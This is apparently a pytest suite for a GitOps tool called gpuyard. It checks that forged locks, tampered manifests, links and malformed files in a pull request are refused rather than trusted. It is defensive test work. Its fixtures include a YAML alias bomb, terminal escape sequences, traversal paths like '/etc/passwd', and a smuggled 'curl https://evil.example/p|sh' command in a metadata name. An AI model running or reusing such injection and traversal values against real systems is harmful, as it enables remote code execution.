"""Locks and generated files that a pull request has made up: nothing is deleted, believed or called right for them."""

import json
import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import lru_cache
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import gpuyard.commit
from gpuyard.catalogue.shippedchart import shipped_charts
from gpuyard.commit.directory import Directory
from gpuyard.commit.lock import sha256
from gpuyard.commit.plan import Place
from gpuyard.commit.synced import lock_at
from gpuyard.doors import git as door
from gpuyard.doors.cache import Disk
from gpuyard.doors.yamlio import load_data
from gpuyard.errors import GpuyardError, InputError
from gpuyard.pipeline import Compiled, compile, execute, is_current, plan
from gpuyard.project.load import Project, parse
from gpuyard.project.userfiles import Sources
from gpuyard.review.placed import Running
from gpuyard.tree import HEADER, LARGEST, TOGETHER, owner, readable
from tests.conftest import write_tree
from tests.projects import sources
from tests.test_compile import git, run, save

LOCK, CHAT = Path(".gpuyard.lock"), Path("workloads/chat.lock")
DEPLOYMENT = Path("base/chat/deployment.yaml")
CHART = "apiVersion: v2\nname: mine\nversion: 1.0.0\n"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A compiled stack, and files of its users in every folder."""
    root = tmp_path_factory.mktemp("made") / "gitops"
    assert run("init", root).exit_code == 0
    assert run("compile", root).exit_code == 0
    mine = {
        "CODEOWNERS": "* @acme\n",
        "charts/mine/Chart.yaml": CHART,
        "charts/mine/templates/NOTES.txt": "ours\n",
        "base/mine/kustomization.yaml": "resources: []\n",
        "clusters/phx/mine.yaml": "apiVersion: v1\n",
        "overlays/notes.txt": "",
        "workloads/mine.md": "# Ours\n",
        **dict.fromkeys(MORE, "ours\n"),
    }
    write_tree(root, {PurePosixPath(name): text for name, text in mine.items()})
    own_files(root, *LISTING)
    save(root, "ours")
    assert run("compile", root).exit_code == 0
    return root


def own_files(root: Path, *names: str) -> None:
    """What the owner of the stack lists as his own."""
    stack = root / "stack.yaml"
    text = stack.read_text(encoding="utf-8").partition("  ownFiles:")[0]
    stack.write_text(f"{text}  ownFiles: [{', '.join(names)}]\n", encoding="utf-8")


@pytest.fixture
def repository(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "gitops", symlinks=True))


def listed(root: Path, *names: str, digest: str = "") -> None:
    """In the lock of whom they would belong to, with the digest that they have."""
    for name in names:
        blueprint = owner(PurePosixPath(name))
        lock = root / (f"workloads/{blueprint}.lock" if blueprint else LOCK)
        data = {"format": 3, "blueprint": blueprint, "placements": {}, "files": {}}
        if lock.exists():
            data = json.loads(lock.read_text(encoding="utf-8"))
        files: dict[str, str] = data["files"]  # type: ignore[assignment]  # the values are of several types
        files[name] = digest or sha256((root / name).read_text(encoding="utf-8"))
        lock.write_text(json.dumps(data, indent=1) + "\n", encoding="utf-8")


def verdicts(root: Path) -> dict[str, tuple[int, str]]:
    """Of each command on the same commit, with what it says."""
    head = git(root, "rev-parse", "HEAD")
    found = {}
    for command in (("compile", "--check"), ("compile",), ("compile", "--overwrite")):
        result = run(*command, root)
        found[" ".join(command)] = (result.exit_code, result.output)
        git(root, "reset", "-q", "--hard", head)
    return found


MORE = ("charts/inference/own.txt", "charts/inference/templates/own.yaml", "charts/g/templates/README.md")
OURS = ("charts/mine/Chart.yaml", "charts/mine/templates/NOTES.txt", "base/mine/kustomization.yaml")
OTHERS = ("clusters/phx/mine.yaml", "overlays/notes.txt", "workloads/mine.md")
READ = ("base/mine/kustomization.yaml", "clusters/phx/mine.yaml", "charts/inference/templates/own.yaml")
"""Those of them that an engine or Helm takes: the stack has to list them."""
LISTING = (*READ, "charts/mine/Chart.yaml", "charts/mine/templates/NOTES.txt")
"""And those of a chart of theirs, which a lock can call one of gpuyard's."""


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize("name", [*OURS, *OTHERS, *MORE], ids=lambda name: f"A1-deletes-{name}")
def test_a_file_that_does_not_say_so_is_not_generated(name: str, repository: Path) -> None:
    """Whatever a lock says, and with --overwrite, too; in a chart of ours as well, and where the stack lists none."""
    own_files(repository, *(each for each in LISTING if each != name))
    listed(repository, name)
    save(repository, "a pull request")
    says = (
        f"{name}: is in the way and does not say that gpuyard generated it, though the lock does; move it or delete it"
    )
    for code, output in verdicts(repository).values():
        assert (code, says in output) == (76, True), output


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize("name", LISTING)
def test_a_file_is_not_both_listed_by_the_stack_and_generated(name: str, repository: Path) -> None:
    listed(repository, name)
    save(repository, "a pull request")
    for code, output in verdicts(repository).values():
        assert (code, f"{name} holds files from gpuyard; list only your own" in output) == (65, True), output
    assert (repository / name).is_file()


@pytest.mark.attack("A22 engine-read folders")
@pytest.mark.parametrize("name", READ)
def test_a_file_that_an_engine_reads_and_nothing_lists_is_refused(name: str, repository: Path) -> None:
    own_files(repository, *(each for each in LISTING if each != name))
    save(repository, "a pull request")
    for code, output in verdicts(repository).values():
        assert (code, f"{name}: is not from gpuyard: " in output) == (65, True), output
    assert (repository / name).is_file()


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize("digest", ["", "0" * 64], ids=["A1-overwrites", "A1-overwrites-as-edited"])
@pytest.mark.parametrize("name", ["README.md", "base/chat/service.yaml", "charts/inference/values.yaml"])
def test_a_file_of_the_users_where_one_goes_is_not_overwritten(name: str, digest: str, repository: Path) -> None:
    (repository / name).write_text("ours\n", encoding="utf-8")
    listed(repository, name, digest=digest)
    save(repository, "a pull request")
    for code, output in verdicts(repository).values():
        assert (code, f"{name}: is in the way and does not say" in output) == (76, True), output
    assert (repository / name).read_text(encoding="utf-8") == "ours\n"


def test_what_a_chart_of_ours_brings_along_is_ours(repository: Path) -> None:
    """Its templates are copied and say nothing, but the Chart.yaml above them does: an older one is replaced."""
    for name in ("charts/inference/templates/NOTES.txt", "charts/inference/charts/vllm/values.yaml"):
        (repository / name).write_text("as an older gpuyard left it\n", encoding="utf-8")
        listed(repository, name)
    (repository / "charts/inference/charts/vllm/templates").mkdir(exist_ok=True)
    name = "charts/inference/charts/vllm/templates/_budget.tpl"
    old = repository / name
    old.write_text("left\n", encoding="utf-8")
    listed(repository, name)
    save(repository, "older")
    assert run("compile", repository).exit_code == 0
    assert not old.exists()
    assert run("compile", repository, "--check").exit_code == 0


COPIED = "charts/inference/charts/vllm"


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize(
    "name", ["templates/mine.yaml", "values-mine.yaml", "crds/mine.yaml", "files/mine.py", "NOTES.md"]
)
def test_a_users_file_in_the_copy_of_a_chart_is_not_deleted_for_a_lock(name: str, repository: Path) -> None:
    """No file there says that gpuyard generated it, so only the chart's own names are ours."""
    file = repository / COPIED / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("ours\n", encoding="utf-8")
    listed(repository, f"{COPIED}/{name}")
    save(repository, "a pull request")
    for code, output in verdicts(repository).values():
        assert (code, f"{COPIED}/{name}: is in the way and does not say" in output) == (76, True), output
    assert file.read_text(encoding="utf-8") == "ours\n"


def test_what_the_chart_once_had_it_no_longer_has() -> None:
    text = (Path(gpuyard.commit.__file__).parent / "formerly.yaml").read_text(encoding="utf-8")
    for chart, names in load_data(text).items():
        assert not {*map(PurePosixPath, names)} & {*shipped_charts()[chart]}


def tampered(root: Path) -> None:
    file = root / DEPLOYMENT
    text = file.read_text(encoding="utf-8").replace("allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true")
    assert text != file.read_text(encoding="utf-8")
    file.write_text(text, encoding="utf-8")


@pytest.fixture
def cache(repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Warm: the last compile is remembered."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("GPUYARD_COMPILE_CACHE", "on")
    assert run("compile", repository).output.startswith("up to date")
    return tmp_path / "cache"


@pytest.mark.attack("A19 generated files")
@pytest.mark.usefixtures("cache")
def test_A2_tampered_manifests_and_a_lock_that_agrees_are_repaired(repository: Path) -> None:
    """No hand edit shows in them: it is what an older compile could have left. The sources decide."""
    right = (repository / DEPLOYMENT).read_text(encoding="utf-8")
    tampered(repository)
    listed(repository, str(DEPLOYMENT))
    save(repository, "a pull request")
    stale = run("compile", repository, "--check", "-o", "json")
    assert (stale.exit_code, json.loads(stale.stdout)["stale"]) == (79, [str(DEPLOYMENT), str(CHAT)])
    data = json.loads(run("compile", repository, "-o", "json").stdout)
    assert (data["written"], data["deleted"]) == ([str(DEPLOYMENT), str(CHAT)], [])
    assert (repository / DEPLOYMENT).read_text(encoding="utf-8") == right
    assert run("compile", repository, "--check").exit_code == 0


@pytest.mark.attack("A19 generated files")
@pytest.mark.usefixtures("cache")
def test_A2_tampered_manifests_alone_are_a_hand_edit(repository: Path) -> None:
    tampered(repository)
    save(repository, "a pull request")
    found = verdicts(repository)
    says = f"{DEPLOYMENT}: was edited by hand; move the change into the blueprint chat"
    for command in ("compile", "compile --check"):
        assert (found[command][0], says in found[command][1]) == (76, True), found[command]
    assert (found["compile --overwrite"][0], "1 files written" in found["compile --overwrite"][1]) == (0, True)


@pytest.mark.attack("A19 generated files")
@pytest.mark.usefixtures("cache")
def test_A2_a_lock_without_files_and_overlays_that_are_gone(repository: Path) -> None:
    for lock in (LOCK, CHAT):
        data = json.loads((repository / lock).read_text(encoding="utf-8"))
        (repository / lock).write_text(json.dumps({**data, "files": {}}), encoding="utf-8")
    git(repository, "rm", "-rq", "overlays")
    save(repository, "a pull request")
    found = verdicts(repository)
    assert found["compile --check"][0] == 79
    assert (found["compile"][0], "overlays/" in found["compile"][1]) == (0, True), found["compile"]


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.usefixtures("cache")
def test_an_entry_of_the_stacks_own_is_refused_by_each_command_with_a_cache_too(repository: Path) -> None:
    stack = repository / "stack.yaml"
    stack.write_text(
        stack.read_text("utf-8").replace("  repository:\n", "  repository:\n    source: flux-system\n"), "utf-8"
    )
    git(repository, "rm", "-q", "clusters/phx/sync.yaml")
    save(repository, "moved")
    assert run("compile", repository).exit_code == 0
    assert run("compile", repository).output.startswith("up to date")
    (repository / "clusters/phx/sync.yaml").write_text("kind: Kustomization\n", encoding="utf-8")
    save(repository, "a pull request")
    assert {code for code, _ in verdicts(repository).values()} == {65}


def linked(root: Path, name: Path) -> None:
    """A link whose target is the text: Git has the same object for it as for the file."""
    text = (root / name).read_text(encoding="utf-8")
    assert len(text) < 4096
    (root / name).unlink()
    (root / name).symlink_to(text)


@pytest.mark.attack("A20 linked folders")
@pytest.mark.usefixtures("cache")
def test_a_link_is_not_the_file_whose_text_it_leads_to(repository: Path) -> None:
    name = Path("base/chat/kustomization.yaml")
    linked(repository, name)
    save(repository, "a pull request")
    found = verdicts(repository)
    assert {code for code, _ in found.values()} == {76}
    assert all(f"{name}: is in the way, and is a link" in output for _, output in found.values())


def big(file: Path) -> None:
    with file.open("wb") as stream:
        stream.truncate(LARGEST + 1)


def swapped(file: Path) -> None:
    file.unlink()
    file.mkdir()
    (file / "x").write_text("x", encoding="utf-8")


BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 10)}]\n" for n in range(9)
)
NAME = "apiVersion: v1\nkind: Kustomization\nmetadata: {name: %s}\n"
SPOILT: dict[str, str | bytes | Callable[[Path], None]] = {
    "alias-bomb": BOMB,
    "shell": NAME % '"inference-x; curl https://evil.example/p|sh #"',
    "escapes": NAME % r'"inference-\e[31mA\e]52;c;cm0=\a\n::error::gone"',
    **{f"metadata-{text}": f"kind: X\nmetadata: {text}\n" for text in ("{}", "[a]", "{name: 3}", "x")},
    **{
        f"text-{text}": text for text in ("x", "- a", "{", "a: .inf", "", "---\n---\n", "a: 1\n--- \nb: 2\n", "%YAML 9")
    },
    "brackets": "[" * 100_000,
    "claim-100Gb": "cache: {kind: fss, size: 100Gb}\n",
    "claim-3": "cache: 3\n",
    "not-utf-8": b"\xff\xfe\x00",
    "binary": bytes(range(256)) * 40,
    "huge": big,
    "directory": swapped,
    "dangling-link": lambda file: (file.unlink(), file.symlink_to("/nonexistent"))[0],
    "link-to-a-device": lambda file: (file.unlink(), file.symlink_to("/dev/zero"))[0],
}


@pytest.mark.attack("A19 generated files")
@pytest.mark.parametrize("name", ["clusters/phx/inference-chat.yaml", "charts/inference/values-a10.yaml"])
@pytest.mark.parametrize("spoil", SPOILT.values(), ids=[f"A3-{name[:16]}" for name in SPOILT])
def test_generated_files_are_compared_and_never_believed(
    spoil: str | bytes | Callable[[Path], None], name: str, repository: Path
) -> None:
    """The lock says that they are gpuyard's. A blueprint leaves, so that there is much to tell."""
    file = repository / name
    if callable(spoil):
        spoil(file)
    else:
        file.write_bytes(spoil if isinstance(spoil, bytes) else f"{HEADER.format(source='chat')}{spoil}".encode())
    digest = "0" * 64
    if not callable(spoil):
        digest = sha256(file.read_bytes().decode("utf-8", "replace"))
    listed(repository, name, digest=digest)
    git(repository, "rm", "-q", "blueprints/chat.yaml")
    save(repository, "a pull request")
    found = verdicts(repository)
    codes = (found["compile --check"][0], found["compile"][0])
    assert codes in ((79, 0), (76, 76)), found
    for _, output in found.values():
        assert "evil.example" not in output
        assert "Traceback" not in output
        assert output.replace("\n", "").isprintable()


PLACES = [
    "/proc/kmsg",
    "/etc/passwd",
    "tmp/../pin",
    "base/../../pin",
    "a" * 300,
    "base/" + "a" * 300,
    "base/" + "a/" * 2000,
]


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize("name", PLACES, ids=lambda name: f"A6-{name[:20]}")
def test_no_path_of_a_lock_is_looked_at_that_gpuyard_never_wrote(name: str, repository: Path) -> None:
    """Whether it is there, and what it holds, isn't told."""
    (repository.parent / "pin").write_text("4711", encoding="utf-8")
    data = json.loads((repository / LOCK).read_text(encoding="utf-8"))
    said = set()
    for digest in (sha256("4711"), "0" * 64):
        (repository / LOCK).write_text(json.dumps({**data, "files": {name: digest}}), encoding="utf-8")
        for command in (("compile", "--check"), ("check",)):
            result = run(*command, repository)
            said.add((result.exit_code, result.output))
    ((code, output),) = said
    assert (code, output.startswith(".gpuyard.lock: damaged (")) == (65, True), output


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize(
    "name", ["base/chat", "charts/inference", "overlays/a10", "clusters/phx"], ids=lambda n: f"folder-{n}"
)
def test_a_lock_that_names_a_folder(name: str, repository: Path) -> None:
    data = json.loads((repository / LOCK).read_text(encoding="utf-8"))
    if owner(PurePosixPath(name) / "x"):
        data = json.loads((repository / CHAT).read_text(encoding="utf-8"))
    lock = CHAT if "blueprint" in data and owner(PurePosixPath(name)) else LOCK
    data = json.loads((repository / lock).read_text(encoding="utf-8"))
    data["files"][name] = "0" * 64
    (repository / lock).write_text(json.dumps(data), encoding="utf-8")
    save(repository, "a pull request")
    found = verdicts(repository)
    assert (found["compile --check"][0], found["compile"][0]) == (79, 0), found
    assert (repository / name).is_dir()


@pytest.mark.attack("A18 hostile lock")
def test_a_file_that_differs_from_ours_in_case_only_is_not_deleted(repository: Path) -> None:
    """On file systems without case it is ours."""
    data = json.loads((repository / CHAT).read_text(encoding="utf-8"))
    name = "base/chat/service.yaml"
    data["files"]["base/chat/Service.yaml"] = data["files"].pop(name)
    (repository / CHAT).write_text(json.dumps(data), encoding="utf-8")
    shutil.copy(repository / name, repository / "base/chat/Service.yaml")
    save(repository, "a pull request")
    assert run("compile", repository).exit_code == 0
    assert (repository / "base/chat/Service.yaml").exists()


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize("what", ["link", "folder", "huge"])
@pytest.mark.parametrize("lock", [LOCK, CHAT])
def test_a_lock_that_is_no_file(lock: Path, what: str, repository: Path) -> None:
    file = repository / lock
    if what == "huge":
        big(file)
    elif what == "folder":
        swapped(file)
    else:
        file.rename(repository / "elsewhere")
        file.symlink_to(repository / "elsewhere")
    save(repository, "a pull request")
    found = verdicts(repository)
    assert len({code for code, _ in found.values()}) == 1
    if what != "folder":
        assert f"{lock}: damaged (not a regular file, or larger than any lock)" in found["compile"][1]
    assert found["compile"][0] == (76 if what == "folder" else 65), found


def test_a_stack_inside_of_another_is_refused_by_each_command(repository: Path) -> None:
    """Also while it is a pull request; but not what is a repository of its own, such as a work tree."""
    inside = {
        PurePosixPath("copy") / name: (repository / name).read_text("utf-8") for name in ("stack.yaml", str(LOCK))
    }
    write_tree(repository, inside)
    (repository / "copy" / ".git").mkdir()
    assert run("compile", repository, "--check").exit_code == 0
    (repository / "copy" / ".git").rmdir()
    save(repository, "a pull request")
    found = verdicts(repository)
    for command in (("check",), ("compile", "--no-commit")):
        result = run(*command, repository)
        found[" ".join(command)] = (result.exit_code, result.output)
    assert {code for code, _ in found.values()} == {73}, found
    assert all("the top and copy of the repository are stacks" in output for _, output in found.values())


# --- one verdict, whatever was changed ------------------------------------------------------------------------


@contextmanager
def snapshot(root: Path) -> Iterator[door.Snapshot]:
    with door.read_tree(root, "main") as found:
        yield found


OWN = {"ownFiles": ["base/mine.yaml"]}
SOURCES = [
    sources({}, OWN),
    sources({"storage": {"cache": {"size": "20Gi"}}}, OWN),
    sources({"serving": {"contextLength": 4096}}, OWN),
    {"stack.yaml": sources({}, OWN)["stack.yaml"]},
]


@lru_cache
def project(number: int) -> Project:
    return parse(SOURCES[number])


_COMPILED: dict[str, Compiled] = {}


def compiled(number: int, running: Running) -> Compiled:
    key = f"{number} {running!r}"
    if key not in _COMPILED:
        _COMPILED[key] = compile(project(number), running)
    return _COMPILED[key]


def verdict(number: int, place: Place) -> tuple[object, ...]:
    """What a command ends with: what it would write and delete, or why it doesn't."""
    try:
        before = lock_at(place).running
        found = plan(compiled(number, before), place, base=before)
    except GpuyardError as error:
        return type(error), str(error)
    return found.problems, sorted(found.written.items()), found.deleted


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("template") / "gitops"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    write_sources(root, SOURCES[0])
    save(root, "sources")
    with snapshot(root) as place:
        assert execute(plan(compiled(0, Running()), place), place)
    return root


def write_sources(root: Path, files: Sources) -> None:
    shutil.rmtree(root / "blueprints", ignore_errors=True)
    write_tree(root, {PurePosixPath(name): data.decode() for name, data in files.items()})


FILES = [
    ".gpuyard.lock",
    "workloads/chat.lock",
    "README.md",
    "base/chat/service.yaml",
    "base/chat/deployment.yaml",
    "charts/inference/values.schema.json",
    "charts/inference/Chart.yaml",
    "clusters/phx/sync.yaml",
    "clusters/phx/inference-chat.yaml",
    "overlays/a10/chat/kustomization.yaml",
]
LISTED = st.sampled_from(
    [
        "stack.yaml",
        "blueprints/chat.yaml",
        "base/own.yaml",
        "base/mine.yaml",
        "charts/own/Chart.yaml",
        "workloads/chat.md",
    ]
)
PLANTED = {"base/own.yaml": "mine\n", "base/mine.yaml": "mine\n", "charts/own/Chart.yaml": CHART}


HOWS = st.sampled_from(["append", "replace", "empty", "binary", "crlf", "delete", "link", "folder", "folder-link"])
TEXTS: dict[str, Callable[[bytes], bytes]] = {
    "append": lambda data: data + b"# more\n",
    "replace": lambda data: b"other: text\n",
    "empty": lambda data: b"",
    "binary": lambda data: b"\xff\x00" + data[:20],
    "crlf": lambda data: data.replace(b"\n", b"\r\n"),
}


def change(root: Path, name: str, how: str) -> None:
    """One thing that a pull request does to a generated file."""
    file = root / name
    if not file.is_file() or file.is_symlink() or file.parent.resolve() != (root.resolve() / name).parent:
        return  # is gone, or behind a link
    if how in TEXTS:
        file.write_bytes(TEXTS[how](file.read_bytes()))
    elif how == "folder-link":
        if file.parent != root:
            elsewhere = root / f"elsewhere-{name.replace('/', '-')}"
            file.parent.rename(elsewhere)
            file.parent.symlink_to(elsewhere)
    else:
        file.unlink()
        if how == "link":
            file.symlink_to("../stack.yaml")
        elif how == "folder":
            file.mkdir()
            (file / "x").write_bytes(b"x")


def list_it(root: Path, name: str) -> None:
    """A lock that agrees, though it may be damaged by it."""
    file, blueprint = root / name, owner(PurePosixPath(name))
    lock = root / (f"workloads/{blueprint}.lock" if blueprint else LOCK)
    try:
        data: Any = json.loads(lock.read_text(encoding="utf-8"))
        data["files"][name] = sha256(file.read_text(encoding="utf-8"))
    except (OSError, ValueError, KeyError, TypeError):
        return
    lock.write_text(json.dumps(data, indent=1) + "\n", encoding="utf-8")


@pytest.mark.attack("A19 generated files")
@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(
    changes=st.lists(st.tuples(st.sampled_from(FILES), HOWS, st.booleans()), max_size=3),
    forged=st.lists(LISTED, max_size=1),
    planted=st.sets(st.sampled_from(list(PLANTED))),
    number=st.integers(0, len(SOURCES) - 1),
)
def test_check_and_compile_give_one_verdict(
    changes: list[tuple[str, str, bool]],
    forged: list[str],
    planted: set[str],
    number: int,
    template: Path,
    tmp_path: Path,
) -> None:
    """A checkout and its commit, with a cache and without; what is executed is right then, and no source is touched.

    The stack lists one of the planted files, a forged lock another, or both, or nobody does.
    """
    root, cache = tmp_path / "gitops", Disk(tmp_path / "cache", "")
    shutil.rmtree(root, ignore_errors=True)
    shutil.copytree(template, root, symlinks=True)
    with snapshot(root) as place:
        plan(compiled(0, lock_at(place).running), place, cache=cache)
    write_sources(root, SOURCES[number])
    planted |= {*forged} & PLANTED.keys()
    write_tree(root, {PurePosixPath(name): PLANTED[name] for name in planted})
    for name, how, agreeing in changes:
        change(root, name, how)
        if agreeing:
            list_it(root, name)
    for name in forged:
        list_it(root, name)
    if git(root, "status", "--porcelain"):
        save(root, "a pull request")
    own = {name: (root / name).read_bytes() for name in (*SOURCES[number], *planted)}
    with snapshot(root) as place:
        said = verdict(number, place)
        assert verdict(number, Directory(root)) == said
        if isinstance(said[0], tuple):
            current = is_current(project(number), place, cache)
            assert not current or said == ((), [], ())
            if not said[0]:
                execute(plan(compiled(number, lock_at(place).running), place), place)
                assert verdict(number, Directory(root)) == ((), [], ())
    assert {name: (root / name).read_bytes() for name in own} == own


def test_what_is_read_has_an_end() -> None:
    sizes = [(PurePosixPath(str(number)), LARGEST) for number in range(40)]
    assert len(readable([*sizes, (PurePosixPath("small"), 1)])) == TOGETHER // LARGEST
    assert readable([(PurePosixPath("a"), LARGEST + 1), (PurePosixPath("b"), 1)]) == [PurePosixPath("b")]


@pytest.mark.attack("A18 hostile lock")
def test_a_commit_that_is_read_in_part_is_not_called_right(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Thousands of locks are one object for Git, and gigabytes for who reads them."""
    for module in ("gpuyard.tree", "gpuyard.commit.directory"):
        monkeypatch.setattr(f"{module}.TOGETHER", 1000)
    git(tmp_path, "init", "-q", "-b", "main", "bomb")
    root = tmp_path / "bomb"
    write_tree(root, {PurePosixPath(f"workloads/a{number}.lock"): " " * 400 for number in range(4)})
    save(root, "bomb")
    with snapshot(root) as place:
        for each in (place, Directory(root)):
            with pytest.raises(InputError) as caught:
                lock_at(each)
            said = [problem.message[:15] for problem in caught.value.problems]
            assert said == ["damaged (not JS", "damaged (not JS", "damaged (not a ", "damaged (not a "]
